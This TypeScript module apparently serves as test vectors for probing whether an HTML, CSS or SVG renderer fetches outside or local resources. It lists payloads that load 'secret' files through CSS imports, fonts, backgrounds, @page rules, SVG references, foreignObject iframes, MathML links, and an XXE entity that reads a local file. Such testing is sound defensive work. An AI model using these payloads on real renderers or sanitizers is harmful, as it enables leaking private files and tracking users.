/** Ways to reach out by styles and drawings. */
import { asData, each, inSvg, refresh, styled, type Vector } from "./vector.ts";

export const inStyles: readonly Vector[] = [
  {
    name: "import of a style sheet",
    html: (to) =>
      each(
        to,
        "secret.css",
        (at) => `<style>@import url("${at}"); @import "${at}" layer(x) supports(display: grid);</style>`,
      ),
  },
  {
    name: "import in a style sheet of its own",
    html: (to) =>
      each(
        to,
        "secret.css",
        (at) => `<link rel="stylesheet" href="${asData("text/css", `@import "${at}";`)}">`,
      ),
  },
  {
    name: "fonts",
    html: (to) =>
      each(to, "secret.txt", (at) =>
        styled(
          `@font-face { font-family: stolen; src: url("${at}"), url("${at}?2") format("woff2") } .styled { font-family: stolen }`,
        ),
      ),
  },
  {
    name: "backgrounds",
    html: (to) =>
      each(to, "secret.png", (at) =>
        styled(
          `.styled { background: url("${at}"), image-set(url("${at}?2") 1x), cross-fade(url("${at}?3"), red) }`,
        ),
      ),
  },
  {
    name: "borders, lists, pointers",
    html: (to) =>
      each(to, "secret.png", (at) =>
        styled(
          `.styled { border-image: url("${at}") 30; display: list-item; list-style-image: url("${at}?2"); cursor: url("${at}?3"), auto }`,
        ),
      ),
  },
  {
    name: "masks, clips, filters, shapes",
    html: (to) =>
      each(to, "secret.svg", (at) =>
        styled(
          `.styled { mask: url("${at}#a"); clip-path: url("${at}#a"); filter: url("${at}#a"); float: left; shape-outside: url("${at}?2") }`,
        ),
      ),
  },
  {
    name: "made-up content",
    html: (to) =>
      each(to, "secret.png", (at) =>
        styled(
          `.styled::before { content: url("${at}") } .styled::after { content: image-set("${at}?2" 1x) } .styled::first-line { background: url("${at}?3") }`,
        ),
      ),
  },
  {
    name: "style attribute",
    html: (to) =>
      each(to, "secret.png", (at) => `<p style="background:url('${at}');list-style:url('${at}?2')">x</p>`),
  },
  {
    name: "address in a variable",
    html: (to) =>
      each(to, "secret.png", (at) =>
        styled(
          `:root { --at: url("${at}") } @property --other { syntax: "<url>"; inherits: true; initial-value: url("${at}?2") } .styled { background: var(--at) }`,
        ),
      ),
  },
  {
    name: "margins of the printed page",
    html: (to) =>
      each(
        to,
        "secret.png",
        (at) =>
          `<style>@page { background: url("${at}"); @top-left { content: url("${at}?2") } @bottom-center { background: url("${at}?3"); content: "x" } }</style>`,
      ),
  },
  {
    name: "style for print alone",
    html: (to) =>
      each(to, "secret.png", (at) =>
        styled(
          `@media print { .styled { background: url("${at}") } } @container (width > 0) { .styled { border-image-source: url("${at}?2") } }`,
        ),
      ),
  },
  {
    name: "processing instruction for a style sheet",
    html: (to) => each(to, "secret.css", (at) => `<?xml-stylesheet href="${at}"?>`),
  },
];

export const inDrawings: readonly Vector[] = [
  {
    name: "picture in a drawing",
    html: (to) =>
      each(to, "secret.png", (at) =>
        inSvg(`<image href="${at}" width="9" height="9"/><image xlink:href="${at}?2" width="9" height="9"/>`),
      ),
  },
  {
    name: "part of another drawing",
    html: (to) => each(to, "secret.svg", (at) => inSvg(`<use href="${at}#a"/><use xlink:href="${at}#b"/>`)),
  },
  {
    name: "picture in a filter",
    html: (to) =>
      each(to, "secret.png", (at) =>
        inSvg(`<filter id="f"><feImage href="${at}"/></filter><rect width="9" height="9" filter="url(#f)"/>`),
      ),
  },
  {
    name: "paint, mark and path from elsewhere",
    html: (to) =>
      each(to, "secret.svg", (at) =>
        inSvg(
          `<rect width="9" height="9" fill="url('${at}#a')" mask="url('${at}#b')" clip-path="url('${at}#c')"/><path d="M0 0L9 9" marker-end="url('${at}#d')"/><text><textPath href="${at}#e">x</textPath></text>`,
        ),
      ),
  },
  {
    name: "gradient and pattern that continue another",
    html: (to) =>
      each(to, "secret.svg", (at) =>
        inSvg(
          `<linearGradient id="g" href="${at}#a"/><pattern id="p" href="${at}#b"/><rect width="9" height="9" fill="url(#g)" stroke="url(#p)"/>`,
        ),
      ),
  },
  {
    name: "animation that changes an address",
    html: (to) =>
      each(to, "secret.png", (at) =>
        inSvg(
          `<image width="9" height="9"><set attributeName="href" to="${at}"/><animate attributeName="href" values="${at}?2" dur="1s"/></image>`,
        ),
      ),
  },
  {
    name: "script and style in a drawing",
    html: (to) =>
      each(to, "secret.css", (at) =>
        inSvg(`<script href="${at}"/><style>@import "${at}";</style><script>fetch("${at}")</script>`),
      ),
  },
  {
    name: "page in a drawing",
    html: (to) =>
      each(to, "secret.html", (at) =>
        inSvg(
          `<foreignObject width="90" height="90"><iframe src="${at}"></iframe>${refresh(at)}</foreignObject>`,
        ),
      ),
  },
  {
    name: "drawing as a picture",
    html: (to) =>
      each(
        to,
        "secret.png",
        (at) =>
          `<img src="${asData("image/svg+xml", inSvg(`<image href="${at}" width="9" height="9"/><style>@import "${at}";</style><foreignObject width="90" height="90"><img xmlns="http://www.w3.org/1999/xhtml" src="${at}"/></foreignObject>`))}">`,
      ),
  },
  {
    name: "entity in a drawing",
    html: (to) =>
      `<img src="${asData("image/svg+xml", `<!DOCTYPE svg [<!ENTITY secret SYSTEM "file://${to.folder}/secret.txt"><!ENTITY out SYSTEM "${to.http}/probe">]>${inSvg("<text y='20'>&secret;&out;</text>")}`)}">`,
  },
  {
    name: "formula that links",
    html: (to) =>
      each(
        to,
        "secret.html",
        (at) =>
          `<math href="${at}"><mglyph src="${at}"/><annotation-xml encoding="text/html"><img src="${at}"></annotation-xml></math>`,
      ),
  },
];
